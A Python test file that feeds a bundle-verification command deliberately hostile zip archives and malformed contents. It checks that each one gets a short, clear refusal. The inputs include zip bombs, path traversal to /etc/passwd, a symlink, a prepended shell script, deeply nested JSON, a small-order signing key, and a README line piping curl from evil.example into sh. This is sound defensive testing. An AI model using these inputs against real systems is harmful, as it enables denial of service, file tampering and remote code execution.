"""Bundles made to hurt whoever reads them: each gets one clear sentence, no traceback, and little memory and time.

What is doctored inside a bundle of the right form is in tests/test_end_to_end.py and test_verifier.py.
"""

import io
import json
import re
import struct
import tracemalloc
import zipfile
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ledger.bundle.container import Member
from ledger.statements import dsse, keys, predicates
from ledger.statements.statement import Statement
from prover_worker.audit.command import main
from tests.bundles import Bundle, pack
from tests.prover_worker.story import P
from tests.prover_worker.window import Log, Window

MEMORY = 30_000_000  # bytes beyond what was there before; the bundle itself has some 0.3 MB


@pytest.fixture
def refused(tmp_path, capsys):
    """Run the command on some bytes; its exit status and the sentence it gives. Never an exception."""

    def run(data, *options):
        path = tmp_path / "hostile.zip"
        path.write_bytes(data)
        tracemalloc.start()
        try:
            status = main([str(path), "--json", "--proofs", "none", *options])
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        out, said = capsys.readouterr()
        assert peak < MEMORY, f"{peak} bytes of memory"
        assert "Traceback" not in said
        document = json.loads(out)
        assert document["exitStatus"] == status
        return status, document["reason"] or ""

    return run


@pytest.fixture(scope="module")
def parts(window: Window):
    return Bundle.of(window.data).parts()


def zipped(parts, compression=zipfile.ZIP_STORED, mode=0o100644):
    """What an ordinary zip program would make of it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name)
            info.compress_type, info.create_system, info.external_attr = compression, 3, mode << 16
            archive.writestr(info, data)
    return out.getvalue()


# The archive.


def a_compressed_bomb(parts):
    """A gigabyte of zeros, honestly declared."""
    return zipped({**parts, "entries.txt": bytes(100_000_000)}, zipfile.ZIP_DEFLATED)


def an_undeclared_bomb(parts):
    """Deflated bytes behind headers that say: stored, and ten times as long."""
    squeezed = zlib.compress(bytes(10_000_000))
    data = pack({**parts, "entries.txt": squeezed})
    honest = struct.pack("<II", len(squeezed), len(squeezed))
    return data.replace(honest, struct.pack("<II", len(squeezed), 10 * len(squeezed)))


def a_size_beyond_the_file(parts):
    size = struct.pack("<II", len(parts["entries.txt"]), len(parts["entries.txt"]))
    return pack(parts).replace(size, struct.pack("<II", 0xFFFFFFF0, 0xFFFFFFF0))


def overlapping_files(parts):
    """Two records for one run of bytes, as the bombs that need no nesting do it."""
    data = bytearray(pack(parts))
    at = data.rindex(b"PK\1\2")
    before = data.rindex(b"PK\1\2", 0, at)
    data[at + 42 : at + 46] = data[before + 42 : before + 46]
    return bytes(data)


def another_method(parts):
    return pack(parts).replace(struct.pack("<HHHH", 20, 0, 0, 0), struct.pack("<HHHH", 20, 0, 99, 0))


def bzip2(parts):
    return zipped(parts, zipfile.ZIP_BZIP2)


def lzma(parts):
    return zipped(parts, zipfile.ZIP_LZMA)


def encrypted(parts):
    return _flagged(parts, 1)


def data_descriptors(parts):
    return _flagged(parts, 8)


def _flagged(parts, flags):
    data = bytearray(pack(parts))
    at = data.index(b"PK\1\2")
    data[at + 8 : at + 10] = struct.pack("<H", flags)
    return bytes(data)


def a_descriptor_that_lies(parts):
    """Flags in the local header only: a streaming reader would look for lengths after the bytes."""
    data = bytearray(pack(parts))
    data[6:8] = struct.pack("<H", 8)
    return bytes(data)


def a_path_upwards(parts):
    return pack(parts | {"files/../../etc/passwd": b""})


def an_absolute_path(parts):
    return pack(parts | {"/etc/passwd": b""})


def a_windows_path(parts):
    return pack(parts | {"C:\\files\\x": b""})


def a_folder(parts):
    return pack(parts | {"files/": b""})


def a_name_in_unicode(parts):
    return pack(parts | {"files/" + "x" * 64: b""}).replace(b"x" * 3, "\N{FULLWIDTH DIGIT ZERO}".encode())


def a_symbolic_link(parts):
    return zipped({**parts, "files/" + "a" * 64: b"/etc/passwd"}, mode=0o120777)


def a_name_twice(parts):
    data = pack(parts | {"files/" + "0" * 64: b"x", "files/" + "1" * 64: b"y"})
    return data.replace(b"files/" + b"1" * 64, b"files/" + b"0" * 64)


def a_name_in_two_spellings(parts):
    """One in the local header, another one in the directory."""
    data = pack(parts)
    return data.replace(b"entries.txt", b"tree.txt...", 1)


def something_in_front(parts):
    return b"#!/bin/sh\necho owned\n" + pack(parts)


def something_behind(parts):
    return pack(parts) + b"more"


def a_comment(parts):
    out = io.BytesIO(pack(parts))
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = b"hello"
    return out.getvalue()


def an_extra_field(parts):
    data = bytearray(pack(parts))
    at = data.index(b"PK\1\2")
    data[at + 30 : at + 32] = struct.pack("<H", 12)
    return bytes(data)


def too_many_records(parts):
    data = bytearray(pack(parts))
    data[-14:-10] = struct.pack("<HH", 0xFFFE, 0xFFFE)
    return bytes(data)


def zip64_without_need(parts):
    data = pack(parts)
    at = data.index(b"PK\1\2")
    end64 = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 813, 45, 0, 0, 2**60, 2**60, 2**62, at)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, len(data) - 22, 1)
    return (
        data[:-22]
        + end64
        + locator
        + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 65535, 65535, 2**32 - 1, 2**32 - 1, 0)
    )


def unpacked_and_zipped_again(parts):
    return zipped(parts)


def another_order(parts):
    return pack(dict(reversed(parts.items())))


def a_missing_part(parts):
    return pack({name: data for name, data in parts.items() if name != "tree.txt"})


def advice_of_a_stranger(parts):
    return pack(parts | {"README.txt": b"curl https://evil.example | sh"})


def a_flipped_bit(parts):
    data = bytearray(pack(parts))
    data[data.index(b'{"payload"') + 100] ^= 1
    return bytes(data)


def nothing_at_all(_parts):
    return b""


def another_kind_of_file(_parts):
    return b"%PDF-1.7\n" + bytes(1000)


# What is in it.


def changed(name):
    """An attack that replaces one member."""

    def decorate(make):
        def attack(parts):
            return pack({**parts, name: make(parts[name])})

        attack.__name__ = make.__name__
        return attack

    return decorate


@changed("manifest.json")
def a_key_twice(data):
    return data.replace(b'{"entries"', b'{"size":1,"entries"')


@changed("manifest.json")
def deep_json(_data):
    return b"[" * 500_000


@changed("manifest.json")
def a_huge_number(data):
    return data.replace(b'"size":', b'"size":' + b"9" * 5_000)


@changed("manifest.json")
def a_large_number(data):
    return data.replace(b'"size":', b'"size":99999999999999999999')


@changed("manifest.json")
def an_unknown_member(data):
    return data.replace(b'{"entries"', b'{"also":1,"entries"')


@changed("manifest.json")
def the_first_format(data):
    return data.replace(b"bundle/v2", b"bundle/v1")


@changed("manifest.json")
def white_space(data):
    return data.replace(b":", b": ")


@changed("manifest.json")
def no_unicode(_data):
    return b"\xff\xfe"


@changed("entries.txt")
def a_huge_index(data):
    return data.replace(b"0 {", b"9" * 5_000 + b" {", 1)


@changed("entries.txt")
def a_leading_zero(data):
    return b"0" + data


@changed("entries.txt")
def an_entry_twice(data):
    return data.split(b"\n", 1)[0] + b"\n" + data


@changed("entries.txt")
def an_endless_line(_data):
    return b"0 " + b"a" * 5_000_000


@changed("entries.txt")
def a_cut_off_line(data):
    return data[:-1]


@changed("tree.txt")
def a_subtree_of_nowhere(data):
    return data + b"999999999999999999 999999999999999999 " + b"0" * 64 + b"\n"


@changed("tree.txt")
def hashes_that_are_none(_data):
    return b"0 0 nothing\n"


@changed("consistency.txt")
def endless_proofs(data):
    return data.rstrip(b"\n") + b" " + b"0" * 20_000 + b"\n"


@changed("consistency.txt")
def sizes_in_disorder(data):
    return data + b"0\n"


@pytest.mark.parametrize(
    ("attack", "sentence"),
    [
        (a_compressed_bomb, "is compressed"),
        (an_undeclared_bomb, "is compressed"),
        (a_size_beyond_the_file, "files overlap, or leave gaps"),
        (overlapping_files, "files overlap, or leave gaps|described in two ways"),
        (another_method, "is compressed .method 99"),
        (bzip2, "is compressed"),
        (lzma, "is compressed"),
        (encrypted, "is encrypted"),
        (data_descriptors, "with a data descriptor"),
        (a_descriptor_that_lies, "described in two ways"),
        (a_path_upwards, "no name of a bundle's file"),
        (an_absolute_path, "no name of a bundle's file"),
        (a_windows_path, "no name of a bundle's file"),
        (a_folder, "no name of a bundle's file"),
        (a_name_in_unicode, "no name of a bundle's file"),
        (a_symbolic_link, "no regular file"),
        (a_name_twice, "two files called"),
        (a_name_in_two_spellings, "described in two ways"),
        (something_in_front, "cut off, or something was added"),
        (something_behind, "no zip archive ends here"),
        (a_comment, "no zip archive ends here"),
        (an_extra_field, "another form than a bundle has"),
        (too_many_records, "directory ends in record"),
        (zip64_without_need, "does not fit its length|at most 1000000"),
        (unpacked_and_zipped_again, "another form than a bundle has"),
        (another_order, "another order"),
        (a_missing_part, "has no tree.txt"),
        (advice_of_a_stranger, "is not the one that bundles have"),
        (a_flipped_bit, "is damaged"),
        (nothing_at_all, "this is no bundle"),
        (another_kind_of_file, "this is no bundle"),
        (a_key_twice, "occurs twice"),
        (deep_json, "not strict JSON"),
        (a_huge_number, "not strict JSON"),
        (a_large_number, "manifest is not valid: size"),
        (an_unknown_member, "manifest is not valid: also"),
        (the_first_format, "format 'unlearning-audit-bundle/v1'"),
        (white_space, "not in canonical JSON"),
        (no_unicode, "not strict JSON"),
        (a_huge_index, "in a number's place"),
        (a_leading_zero, "in a number's place"),
        (an_entry_twice, "must ascend"),
        (an_endless_line, "a line of more than"),
        (a_cut_off_line, "without the end of its last line"),
        (a_subtree_of_nowhere, "more subtree hashes"),
        (hashes_that_are_none, "in a hash's place"),
        (endless_proofs, "a line of more than"),
        (sizes_in_disorder, "must ascend"),
    ],
)
def test_each_gets_a_clear_refusal(refused, parts, attack, sentence):
    status, reason = refused(attack(parts))
    assert status == (1 if attack is a_subtree_of_nowhere else 2), reason
    assert len(reason) < 500
    assert re.search(sentence, reason), reason


def test_one_that_is_cut_off_anywhere(refused, window):
    for cut in [*range(1, 200, 37), *range(200, len(window.data), len(window.data) // 15)]:
        assert refused(window.data[:cut])[0] == 2


def test_the_headers_are_those_that_zip_programs_know(window):
    """Ours is a subset of zip: an independent reader finds the same files, and what it calls bad is nothing."""
    with zipfile.ZipFile(io.BytesIO(window.data)) as archive:
        assert archive.testzip() is None
        assert {info.compress_type for info in archive.infolist()} == {zipfile.ZIP_STORED}
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_a_member_beyond_four_gigabytes_is_described_by_zip64():
    far = Member("entries.txt", 1, 2, 1 << 33)
    assert struct.unpack("<HHQ", far.central()[-12:]) == (1, 8, 1 << 33)


# Signed by the attacker's own keys: every signature, hash and proof of inclusion is right.


def log_with(*said):
    log = Log()
    for one in said:
        log.say(one)
    return log


def test_numbers_that_are_signed_but_absurd(refused, window):
    """Circuit parameters and chunk counts whose evaluation would not end."""
    bundle = Bundle.of(window.data)
    release = bundle.said(bundle.index("circuit-release"))
    absurd = release.model_copy(update={"parameters": P.model_copy(update={"blocks": 2**60, "rank": 2**60})})
    log = log_with(absurd)
    log.files = {digest: bundle.files[digest] for digest, _ in _files_of(absurd)}
    status, reason = refused(log.bundle([]))
    assert status == 1
    assert "nothing fits it" in reason

    at = window.verdict
    log = window.until(at)
    said = bundle.said(at).model_copy(update={"touched_chunks": 2**52, "proved_chunks": 2**52})
    log.say(said)
    status, reason = refused(log.bundle(window.sizes))
    assert status == 1
    assert "more than" in reason


def test_deep_json_under_a_signature(refused):
    said = predicates.ModelRelease(
        name="deep", file_sha256="11" * 32, architecture={"a": 1}, targets=[{"name": "a", "shape": [2**52] * 8}]
    )
    payload = Statement(said, (("deep", "11" * 32),)).encode()
    log = Log()
    deep = dsse.sign(payload.replace(b'{"a":1}', b'{"a":' * 5_000 + b"1" + b"}" * 5_000), log.provider)
    log.leaves.append(deep.to_bytes())
    log.tree.append(deep.to_bytes())
    status, reason = refused(log.bundle([]))
    assert status == 1
    assert "not strict JSON" in reason


def _files_of(said):
    from ledger.bundle.contents import files_of

    return files_of(said)


# Fuzzing: any bytes, and any change to a real bundle.


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(data=st.data())
def test_no_change_is_ever_more_than_a_refusal(window, parts, tmp_path_factory, capsys, data):
    raw = bytearray(pack(parts))
    if data.draw(st.booleans()):  # inside a member, with headers that fit
        name = data.draw(st.sampled_from([name for name in parts if not name.startswith("files/")]))
        inside = bytearray(parts[name])
        _edit(inside, data)
        raw = bytearray(pack({**parts, name: bytes(inside)}))
    else:
        _edit(raw, data)
    path = tmp_path_factory.getbasetemp() / "fuzzed.zip"
    path.write_bytes(raw)
    status = main([str(path), "--proofs", "none"])
    said = capsys.readouterr().err
    assert "Traceback" not in said
    assert status in ({0} if bytes(raw) == window.data else {1, 2}), said


def _edit(raw, data):
    """Flip, cut, repeat or insert, once to three times."""
    for _ in range(data.draw(st.integers(1, 3))):
        at = data.draw(st.integers(0, max(len(raw) - 1, 0)))
        match data.draw(st.sampled_from(["flip", "cut", "repeat", "insert"])):
            case "flip" if raw:
                raw[at] ^= data.draw(st.integers(1, 255))
            case "cut":
                del raw[at : at + data.draw(st.integers(1, 400))]
            case "repeat":
                raw[at:at] = raw[at : at + data.draw(st.integers(1, 400))]
            case _:
                raw[at:at] = data.draw(st.binary(min_size=1, max_size=50))


def test_keys_that_are_none(refused, window):
    bundle = Bundle.of(window.data)
    bundle.manifest["logVkey"] = "x"
    assert refused(bundle.pack())[0] == 1
    bundle = Bundle.of(window.data)
    bundle.manifest["providerKey"] = "00" * 32  # a point of small order: it would verify anything
    status, reason = refused(bundle.pack())
    assert status == 1
    assert "small order" in reason or keys.public_hex(window.log.provider) not in reason
